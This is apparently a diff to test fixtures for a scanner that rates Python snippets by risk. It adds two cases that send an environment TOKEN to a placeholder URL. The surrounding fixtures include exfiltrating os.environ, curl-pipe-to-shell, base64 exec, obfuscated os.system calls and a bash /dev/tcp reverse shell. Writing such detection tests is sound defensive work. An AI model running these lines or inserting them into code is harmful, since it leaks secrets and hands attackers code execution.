@@ -39,6 +39,7 @@ URL = "https://example.invalid/a"
             f"open('configure', 'wb').write(requests.get('{URL}').content)\nsubprocess.check_call(['./configure'])",
             "medium",
         ),
+        (f"requests.get('{URL}?a=1', headers={{'Authorization': os.environ['TOKEN']}})", "medium"),
         # hidden
         ("getattr(os, 'sys' + 'tem')('prog')", "high"),
         ("__import__('o' + 's').system('git describe')", "high"),
@@ -48,6 +49,7 @@ URL = "https://example.invalid/a"
         (f"import base64\nexec(base64.b64decode('{INNER}'))", "critical"),
         (f"import socket\nrequests.get('{URL}', params={{'h': socket.gethostname()}})", "critical"),
         (f"requests.post('{URL}', data=dict(os.environ))", "critical"),
+        (f"requests.get('{URL}?a=' + os.environ['TOKEN'])", "critical"),
         (f"open('a.exe', 'wb').write(requests.get('{URL}.exe').content)\nos.startfile('a.exe')", "critical"),
         (f"os.system('curl {URL} | sh')", "critical"),
         ("os.system('bash -i >& /dev/tcp/127.0.0.1/1 0>&1')", "critical"),
